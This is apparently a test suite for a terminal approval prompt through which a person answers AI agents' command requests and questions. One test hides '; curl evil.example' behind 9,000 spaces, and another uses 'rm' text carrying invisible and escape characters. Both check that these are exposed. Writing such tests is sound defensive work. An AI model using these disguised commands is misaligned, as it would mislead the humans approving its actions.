/** Questions that wait for the person: nobody allows anything by accident. */
import { describe, expect, it } from 'vitest';
import { openSession as open } from '../support/app-session.ts';
import { settled } from '../support/fake-run.ts';
import type { Recording } from '../support/recorded-run.ts';
import { approval, asks, midRun } from '../support/recorded-run.ts';

describe('questions that wait for the person', () => {
  const asked = (): Recording => asks(midRun(), 185, 'ROOT::S4', 'a1', approval({}));

  it('opens by itself and shows who asks for exactly what, and that it is not in a sandbox', async () => {
    const { terminal } = await open(asked());
    const text = terminal.text();
    for (const words of [
      'refactoring wants to run a command',
      ' UNSANDBOXED ',
      'ROOT::S4, #4 refactoring',
      'npm test -- refresh --repeat 50',
      'waits 7s',
      '◌ 1 ask',
    ]) {
      expect(text).toContain(words);
    }
  });

  it('keeps the place of the answer, and names the keys, where there is little room', async () => {
    const { terminal } = await open(asked(), { width: 40, height: 10 });
    const rows = terminal.text().split('\n');
    expect(rows).toHaveLength(10);
    expect(rows.slice(1, 9).map((row) => row.slice(0, 1))).toEqual(['╭', '│', '│', '│', '│', '│', '│', '╰']);
    expect(rows[9]).toContain('1 allow once');
  });

  it('takes no key for an answer that was pressed before it was drawn', async () => {
    const { terminal, run, world } = await open(asked());
    terminal.press('y');
    await world.advance(299);
    terminal.press('y');
    expect(run.commands).toEqual([]);
    await world.advance(1);
    terminal.press('y');
    expect(run.commands).toEqual([{ do: 'answer', approval: 'a1', allow: true, scope: 'once' }]);
  });

  it('allows nothing by Enter, nor by A which opens the questions; 2 allows for the session, 4 denies', async () => {
    const boxed = approval({ unsandboxed: false, same: 'shell:npm test' });
    const log = asks(midRun(), 185, 'ROOT::S4', 'a1', boxed);
    const { terminal, run, world } = await open(asks(log, 186, 'ROOT::S3', 'a2', approval({})));
    await world.advance(1000);
    terminal.press('enter');
    expect(run.commands).toEqual([]);
    expect(terminal.text()).toContain('Enter allows nothing here');
    terminal.press('A');
    expect(run.commands).toEqual([]);
    expect(terminal.text()).toContain('Answer by number');
    terminal.press('2', '4');
    expect(run.commands).toHaveLength(1);
    await world.advance(1000);
    terminal.press('4');
    expect(run.commands).toEqual([
      { do: 'answer', approval: 'a1', allow: true, scope: 'session' },
      { do: 'answer', approval: 'a2', allow: false, scope: 'once' },
    ]);
    expect(terminal.text()).not.toContain('Your answer is needed');
  });

  it('asks that a long action is read to its end, blanks and all (D04, F06)', async () => {
    const command = `echo hello${' '.repeat(9000)}; curl evil.example`;
    const { terminal, run, world } = await open(asks(midRun(), 185, 'ROOT::S4', 'a1', approval({ exact: command })));
    await world.advance(1000);
    terminal.press('y');
    expect(run.commands).toEqual([]);
    expect(terminal.text()).toContain('read to the end first');
    terminal.press('G');
    expect(terminal.text()).toContain('; curl evil.ex');
    expect(terminal.text()).toContain('9029 characters');
    terminal.press('y');
    expect(run.commands).toHaveLength(1);
  });

  it('shows hidden characters in what is asked (F04, F05)', async () => {
    const exact = 'rm \u202e\u200bx \u001b[8mhidden';
    const { terminal } = await open(asks(midRun(), 185, 'ROOT::S4', 'a1', approval({ exact })));
    expect(terminal.text()).toMatch(/rm \\u\{202e\}\\u\{200b\}x \\x1b\[8mhidden/i);
  });

  it('asks for a command outside of a sandbox each time anew', async () => {
    const { terminal, run, world } = await open(asked());
    await world.advance(1000);
    expect(terminal.text()).not.toContain('this command');
    terminal.press('2');
    expect(run.commands).toEqual([]);
    expect(terminal.text()).toContain('This is asked anew each time');
  });

  const five = (): Recording => {
    const log = midRun();
    for (const [index, agent] of ['S1', 'S2', 'S3', 'S4', 'S5'].entries()) {
      const request = approval({ exact: 'npm test', unsandboxed: false, same: 'shell:npm test' });
      asks(log, 181 + index, `ROOT::${agent}`, `a${index + 1}`, request);
    }
    return log;
  };

  it('puts equal questions as one, says who asks, and one answer answers each of them once', async () => {
    const { terminal, run, world } = await open(five());
    const text = terminal.text();
    expect(text).toContain('5 agents ask the same: each wants to run a command');
    for (const who of ['ROOT::S1, #1 finder', 'ROOT::S5, #5 tester', 'waits 11s']) expect(text).toContain(who);
    expect(text).not.toContain('1 of ');
    await world.advance(1000);
    terminal.press('y');
    expect(run.commands).toEqual(
      [1, 2, 3, 4, 5].map((n) => ({ do: 'answer', approval: `a${n}`, allow: true, scope: 'once' })),
    );
    expect(terminal.text()).not.toContain('Your answer is needed');
  });

  it('names what 2 covers, and gives it once: the run clears the others', async () => {
    const { terminal, run, world } = await open(five());
    await world.advance(1000);
    expect(terminal.text()).toContain('2 exactly this command, whichever agent asks, until this session ends');
    terminal.press('2');
    expect(run.commands).toEqual([{ do: 'answer', approval: 'a1', allow: true, scope: 'session' }]);
    expect(terminal.text()).not.toContain('Your answer is needed');
  });

  it('offers the programs of a command by name, and takes the reason of a no', async () => {
    const wide = approval({ unsandboxed: false, same: 's', programs: [['npm', 'test']] });
    const log = asks(midRun(), 185, 'ROOT::S4', 'a1', wide);
    const { terminal, run, world } = await open(asks(log, 186, 'ROOT::S3', 'a2', wide));
    await world.advance(1000);
    expect(terminal.text()).toContain(
      '3 every command that runs only npm test …, in the sandbox, until this session ends',
    );
    expect(terminal.text()).toContain('3 npm test …');
    terminal.press('5');
    expect(terminal.text()).toContain('why not? The agent reads it');
    terminal.press('esc', '5', 'n', 'o', 'enter');
    expect(run.commands).toEqual([
      { do: 'answer', approval: 'a1', allow: false, scope: 'once', text: 'no' },
      { do: 'answer', approval: 'a2', allow: false, scope: 'once', text: 'no' },
    ]);
  });

  it('puts what differs anywhere as questions of their own, escapes and letters that spell them alike', async () => {
    const log = midRun();
    const texts = ['rm \u202ex', String.raw`rm \u{202e}x`, 'rm x', 'rm  x'];
    for (const [index, exact] of texts.entries())
      asks(log, 181 + index, 'ROOT::S4', `a${index}`, approval({ exact, same: 'shell' }));
    const { terminal } = await open(log);
    expect(terminal.text()).toContain('1 of 4');
  });

  it('keeps the question that is shown, and what was typed in each, whatever comes meanwhile', async () => {
    const words = (exact: string) => approval({ action: 'question', title: exact, exact, unsandboxed: false });
    const log = asks(midRun(), 185, 'ROOT::S4', 'a1', words('Which store?'));
    const { terminal, run, world } = await open(log);
    await world.advance(1000);
    terminal.type('sqlite');
    await run.play(asks(log, 186, 'ROOT::S3', 'a2', words('Which port?')).events.slice(-2));
    expect(terminal.text()).toMatch(/1 of 2[^]*Which store\?[^]*sqlite/);
    terminal.press('tab');
    expect(terminal.text()).toMatch(/2 of 2[^]*Which port\?/);
    terminal.type('80');
    await world.advance(1000);
    terminal.type('8080');
    terminal.press('tab');
    expect(terminal.text()).toMatch(/1 of 2[^]*sqlite/);
    terminal.press('esc');
    await run.play([]);
    terminal.press('A', 'tab');
    expect(terminal.text()).toMatch(/2 of 2[^]*8080/);
    terminal.press('enter', 'enter');
    expect(run.commands).toEqual([
      { do: 'answer', approval: 'a2', allow: true, scope: 'once', text: '8080' },
      { do: 'answer', approval: 'a1', allow: true, scope: 'once', text: 'sqlite' },
    ]);
  });

  it('offers what can be done at a limit, nothing dear on Enter, and takes an amount for more', async () => {
    const options = [
      'finish: hand over what there is',
      'add: $0.50 more, $0.65 in all (or type an amount)',
      'stop: end',
    ];
    const exact = ['$0.15 of $0.15 are used.', ...options].join('\n');
    const limit = (same: string) =>
      approval({ action: 'budget', title: 'oracle: its limit is met', exact, options, same, unsandboxed: false });
    const log = asks(midRun(), 185, 'ROOT::S4', 'a1', limit('budget:1'));
    const { terminal, run, world } = await open(asks(log, 186, 'ROOT::S3', 'a2', limit('budget:2')));
    await world.advance(1000);
    expect(terminal.text().match(/hand over what there is/g)).toHaveLength(1);
    terminal.press('enter');
    await world.advance(1000);
    terminal.type('1.25');
    expect(terminal.text()).toMatch(/▌ add 1\.25 /);
    terminal.press('enter');
    expect(run.commands).toEqual([
      { do: 'answer', approval: 'a1', allow: true, scope: 'once', text: options[0] },
      { do: 'answer', approval: 'a2', allow: true, scope: 'once', text: 'add 1.25' },
    ]);
  });

  it('disturbs nobody who types, and is there by key', async () => {
    const { terminal, run } = await open(midRun());
    terminal.press('i');
    terminal.type('a');
    await run.play(asked().events.slice(midRun().events.length));
    expect(terminal.text()).not.toContain('Your answer is needed');
    terminal.press('esc', 'esc', 'esc');
    expect(terminal.text()).toContain('Your answer is needed');
  });

  it('is put off by Esc, marked, and opened again by `A`', async () => {
    const { terminal, run, world } = await open(asked());
    await world.advance(1000);
    terminal.press('esc');
    expect(terminal.text()).toContain('a question waits for you: A');
    terminal.press('A', 'y');
    expect(run.commands).toHaveLength(1);
  });

  it('offers answers of a question and sends the chosen one', async () => {
    const request = approval({
      action: 'question',
      title: 'Which store?',
      exact: 'Which store?',
      options: ['redis', 'sqlite'],
      unsandboxed: false,
    });
    const { terminal, run, world } = await open(asks(midRun(), 185, 'ROOT::S4', 'a1', request));
    await world.advance(1000);
    terminal.press('down', 'enter');
    expect(run.commands).toEqual([{ do: 'answer', approval: 'a1', allow: true, scope: 'once', text: 'sqlite' }]);
  });

  it('goes on by Enter in human mode, and takes words', async () => {
    const request = approval({ action: 'turn', exact: 'reads src/a.ts next', unsandboxed: false });
    const log = asks(asks(midRun(), 185, 'ROOT::S4', 'a1', request), 186, 'ROOT::S3', 'a2', request);
    const { terminal, run, world } = await open(log);
    await world.advance(1000);
    terminal.press('enter');
    await world.advance(1000);
    terminal.type('!ls');
    terminal.press('enter');
    expect(run.commands).toEqual([
      { do: 'answer', approval: 'a1', allow: true, scope: 'once' },
      { do: 'answer', approval: 'a2', allow: true, scope: 'once', text: '!ls' },
    ]);
  });

  it('shows a question again when its answer was refused', async () => {
    const { terminal, run, world } = await open(asked());
    await world.advance(1000);
    run.refuse('too late');
    terminal.press('y');
    await settled();
    expect(terminal.text()).toContain('too late');
    expect(terminal.text()).toContain('Your answer is needed');
  });
});
